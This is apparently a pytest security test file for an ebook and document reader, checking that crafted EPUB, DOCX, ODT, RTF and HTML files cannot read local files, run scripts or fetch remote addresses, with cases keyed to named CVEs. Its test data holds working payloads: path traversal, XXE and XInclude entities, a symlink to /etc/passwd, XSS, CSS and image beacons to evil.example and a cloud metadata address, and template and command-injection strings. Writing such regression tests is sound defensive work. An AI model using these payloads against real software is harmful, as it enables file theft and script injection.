"""What has happened to others is tested here by name: a hostile file reaches nothing but its words.

Numbers are of the public CVE list, or of the issue where it was told.
"""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import pytest
from guard import untouched
from shelf import WORD, ao3_html, epub, xhtml, zipped
from shelf_books import PAGES, XHTML, book, encryption, item, opf, page, two_pages
from shelf_drafts import fb2, odt

from fabula.errors import FabulaError, UnreadableInput
from fabula.formats import read_bytes
from fabula.formats.report import report
from fabula.story.text import Text

SECRET = "the-passphrase-of-the-lighthouse"
Made = Callable[[str], tuple[bytes, str]]
"""A file that wants to reach `target`: its bytes and its name."""


def read(data: bytes, path: str) -> Text | None:
    """The text, None where it is refused in one line; nothing is touched either way."""
    with untouched():
        try:
            text = read_bytes(data, path)
            report(text)
        except FabulaError as error:
            refusal = str(error)
        else:
            return text
    assert "\n" not in refusal
    assert SECRET not in refusal
    return None


def everything(text: Text) -> str:
    """All that comes out of a reading."""
    return f"{text.text} {text.meta} {text.notices} {report(text)}"


# ---- files outside: path traversal, XXE


def container(*names: str) -> bytes:
    """A book with further members of these names."""
    return book(two_pages(), {**PAGES, **dict.fromkeys(names, "x")})


def subset(target: str, use: str = "&x;") -> tuple[str, str]:
    """A document type that defines an entity as a file, and its use."""
    return f'<!DOCTYPE x [<!ENTITY x SYSTEM "{target}">]>', use


def odd_document(target: str, start: str = "") -> str:
    head, use = subset(target)
    return (
        f'<?xml version="1.0"?>{start}{head}<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>It '
        f"began. {use}</w:t></w:r></w:p></w:body></w:document>"
    )


def as_docx(document: str | bytes) -> tuple[bytes, str]:
    return zipped({"a": "", "word/document.xml": document}), "x.docx"


def with_subset(xml: str, target: str, place: str) -> str:
    """An XML file that uses an entity defined as a file, where `place` stands."""
    head, use = subset(target)
    body = xml.partition("?>")[2] or xml
    return '<?xml version="1.0"?>' + head + body.replace(place, place + use, 1)


REACHING: dict[str, Made] = {
    "CVE-2026-25636 calibre: EPUB, a scrambled font outside the book": lambda t: (
        book(two_pages(), {**PAGES, "META-INF/encryption.xml": encryption(
            "http://www.idpf.org/2008/embedding", f"../../../../../..{t}")}), "x.epub"),
    "CVE-2026-26064 calibre: ODT, a picture outside": lambda t: (
        odt('<text:p>It began.<draw:image xmlns:draw="d" '
            f'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="../../../..{t}"/></text:p>'),
        "x.odt"),
    "CVE-2026-33206 calibre: resources of a text": lambda t: (
        f"It began. ![x]({t}) ![y](file://{t})\n\n[z]: {t}\n\n<img src='{t}'>".encode(), "x.md"),
    "CVE-2026-33206 calibre: the same in plain text": lambda t: (
        f"It began. ![x]({t})\n\n.. include:: {t}\n\n#include \"{t}\"".encode(), "x.txt"),
    "CVE-2026-30853 calibre: RB": lambda _: (b"\xb0\x0c\xb0\x0c" + bytes(400), "x.rb"),
    "CVE-2026-26065 calibre: PDB": lambda t: (
        t.encode().ljust(60, b"\0") + b"PNRdPPrs" + bytes(300), "x.pdb"),
    "CVE-2026-25635 calibre: CHM": lambda t: (b"ITSF\3\0" + t.encode() + bytes(300), "x.chm"),
    "a page of a book outside it": lambda t: (
        book(two_pages(f"../../../../../..{t}", f"file://{t}"), PAGES), "x.epub"),
    "a package file outside the book": lambda t: (
        zipped({"mimetype": "application/epub+zip", "META-INF/container.xml":
                f'<container><rootfile full-path="../../../..{t}"/></container>',
                "a.xhtml": page("It began.")}), "x.epub"),
    "XXE in DOCX": lambda t: as_docx(odd_document(f"file://{t}")),
    "XXE in DOCX, hidden in UTF-16": lambda t: as_docx(
        odd_document(f"file://{t}").encode("utf-16")),
    "XXE in DOCX, behind a long start": lambda t: as_docx(
        odd_document(f"file://{t}", f"<!--{'x' * 20_000}-->")),
    "XXE in a package": lambda t: (
        book(with_subset(two_pages(), f"file://{t}", "<dc:title>"), PAGES), "x.epub"),
    "XXE in a package, hidden in UTF-16": lambda t: (
        book(with_subset(two_pages(), f"file://{t}", "<dc:title>").encode("utf-16"), PAGES),
        "x.epub"),
    "XXE in a page": lambda t: (
        epub({"a.xhtml": "<p>x</p>"}, extra={"OEBPS/a.xhtml": with_subset(
            page("It began."), f"file://{t}", "<p>")}), "x.epub"),
    "XXE in a page on disk": lambda t: (
        with_subset(page("It began."), f"file://{t}", "<p>").encode(), "x.xhtml"),
    "XXE by parameter": lambda t: as_docx(
        f'<!DOCTYPE x [<!ENTITY % x SYSTEM "file://{t}"> %x;]><w:document xmlns:w="{WORD}"/>'),
    "XXE by an outer definition": lambda t: as_docx(
        f'<!DOCTYPE x SYSTEM "file://{t}"><w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>It'
        "</w:t></w:r></w:p></w:body></w:document>"),
    "XInclude": lambda t: as_docx(
        f'<w:document xmlns:w="{WORD}" xmlns:xi="http://www.w3.org/2001/XInclude"><w:body><w:p>'
        f'<w:r><w:t>It <xi:include href="file://{t}" parse="text"/></w:t></w:r></w:p></w:body>'
        "</w:document>"),
    "XXE in FB2": lambda t: (
        with_subset(fb2("<body><section><p>It began.</p></section></body>").decode(),
                    f"file://{t}", "<p>").encode(), "x.fb2"),
    "XXE in ODT": lambda t: (
        zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml":
                with_subset('<o:document-content xmlns:o="urn:oasis:names:tc:opendocument:'
                            'xmlns:office:1.0"><a>It began.</a></o:document-content>',
                            f"file://{t}", "<a>")}), "x.odt"),
    "a style sheet as a program": lambda t: as_docx(
        f'<?xml-stylesheet type="text/xsl" href="file://{t}"?>'
        f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>It</w:t></w:r></w:p></w:body>'
        "</w:document>"),
    "RTF that includes": lambda t: (
        (r"{\rtf1 It began. {\field{\*\fldinst INCLUDETEXT " + t + r"}{\fldrslt }}}").encode(),
        "x.rtf"),
}  # fmt: skip


@pytest.mark.parametrize("name", REACHING)
def test_no_file_outside_is_read(name: str, tmp_path: Path) -> None:
    """A file that wants another file gets nothing of it: it is read without, or refused."""
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    text = read(*REACHING[name](str(secret)))
    assert text is None or SECRET not in everything(text)


LEADING_OUT = ("../evil.txt", "a/../../evil.txt", "/etc/evil", "\\evil", "C:\\evil.txt", "c:/evil",
               "..\\..\\evil", "\\\\host\\share\\evil")  # fmt: skip


@pytest.mark.parametrize("name", LEADING_OUT)
def test_members_that_lead_out_are_refused(name: str) -> None:
    """zipfile's own `extractall` would write `C:\\evil.txt`; here nothing is written at all."""
    with pytest.raises(UnreadableInput, match="outside the container"), untouched():
        read_bytes(container(name), "x.epub")


def test_links_in_containers_are_refused() -> None:
    """A member that is a symbolic link is refused."""
    out = BytesIO(container())
    with zipfile.ZipFile(out, "a") as opened:
        link = zipfile.ZipInfo("OEBPS/c.xhtml")
        link.external_attr = 0o120777 << 16
        opened.writestr(link, "/etc/passwd")
    with pytest.raises(UnreadableInput, match="is a link"), untouched():
        read_bytes(out.getvalue(), "x.epub")


def test_members_of_one_name_are_refused() -> None:
    """Two members of one name, where two readers would see two books, are refused."""
    data = container("OEBPS/c.xhtml").replace(b"OEBPS/c.xhtml", b"OEBPS/b.xhtml")
    with pytest.raises(UnreadableInput, match="two files"), untouched():
        read_bytes(data, "x.epub")


# ---- what a book wants to run or to fetch

ACTIVE = (
    "<script>alert('run')</script><p onclick=\"alert('run')\">It began.</p>"
    "<iframe srcdoc=\"<script>alert('run')</script>\">run</iframe>"
    "<svg><script>alert('run')</script><a xlink:href=\"javascript:alert('run')\">run</a></svg>"
    "<object data='https://evil.example/run'>run</object><embed src='https://evil.example/run'>"
    "<math><mtext><style><img src=x onerror=alert('run')></style></mtext></math>"
    "<noscript><p title=\"</noscript><img src=x onerror=alert('run')>\"></p></noscript>"
    "<a href=\"javascript:alert('run')\">It ended.</a>"
)
FETCHING = (
    "<link rel='stylesheet' href='https://evil.example/a.css'><base href='https://evil.example/'>"
    "<style>@import url(https://evil.example/b.css); p { background-image: "
    "url(https://evil.example/?c) } p[class^=a] { background: url(https://evil.example/?a) }"
    "</style>"
    "<p style=\"background-image: url('https://evil.example/d')\" class='abc'>It began.</p>"
    "<img src='https://evil.example/e.png' srcset='https://evil.example/f.png 2x' alt=''>"
    "<img src='//169.254.169.254/latest'><img src='http://127.0.0.1:8080/x'>"
    "<image xlink:href='https://evil.example/g.svg'/>"
    "<video poster='https://evil.example/h'></video>"
    "<a ping='https://evil.example/i' href='https://evil.example/j'>It ended.</a>"
)
RUNNING: dict[str, tuple[str, str]] = {
    "CVE-2021-25964, -4170, CVE-2022-0352 Calibre-Web; CVE-2026-27973 audiobookshelf: scripts": (
        ACTIVE, "run"),
    "Readest 4762: a frame with its own document": (
        "<p>It began.</p><iframe srcdoc='<p>run</p>'></iframe><p>It ended.</p>", "run"),
    "CVE-2026-33205 calibre, CVE-2022-0339, -0766, -0767, -0939, -0990 Calibre-Web: addresses": (
        FETCHING, "evil.example"),
}  # fmt: skip


@pytest.mark.parametrize("kind", ["page", "book", "archive's page"])
@pytest.mark.parametrize("name", RUNNING)
def test_nothing_runs_and_nothing_is_fetched(name: str, kind: str) -> None:
    """Scripts, styles and addresses are no words, and nobody is called."""
    body, word = RUNNING[name]
    files = {
        "page": (xhtml(body).encode(), "x.html"),
        "book": (epub({"a.xhtml": body}), "x.epub"),
        "archive's page": (ao3_html(body), "x.html"),
    }
    text = read(*files[kind])
    assert text is not None
    story = "".join(text.text[b.start : b.end] for b in text.blocks if b.is_story)
    assert "It began." in story
    assert "It ended." in story
    assert word not in story


TEMPLATES = ("{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "${7*7}", "<%= 7 * 7 %>",
             "program: os.system('id')", "python: __import__('os')", "{title.__class__}",
             "#{7*7}", "$(id)", "`id`", "=cmd|' /C calc'!A0")  # fmt: skip


@pytest.mark.parametrize("words", TEMPLATES)
def test_templates_in_metadata_are_words(words: str) -> None:
    """CVE-2026-53511, CVE-2026-25731 calibre: what looks like a program stays what it is, words."""
    written = words.replace("&", "&amp;").replace("<", "&lt;")
    metadata = f"<dc:title>{written}</dc:title><dc:creator>{written}</dc:creator>"
    package = opf([item("a", "a.xhtml", XHTML)], ["a"], metadata)
    text = read(book(package, PAGES), "x.epub")
    assert text is not None
    assert (text.meta.title, text.meta.authors) == (words, (words,))


def test_markup_in_metadata_is_words() -> None:
    """CVE-2021-4170 Calibre-Web: a title of markup is its characters; whoever shows it escapes."""
    metadata = "<dc:title>&lt;script&gt;alert(1)&lt;/script&gt;</dc:title>"
    text = read(book(opf([item("a", "a.xhtml")], ["a"], metadata), PAGES), "x.epub")
    assert text is not None
    assert text.meta.title == "<script>alert(1)</script>"
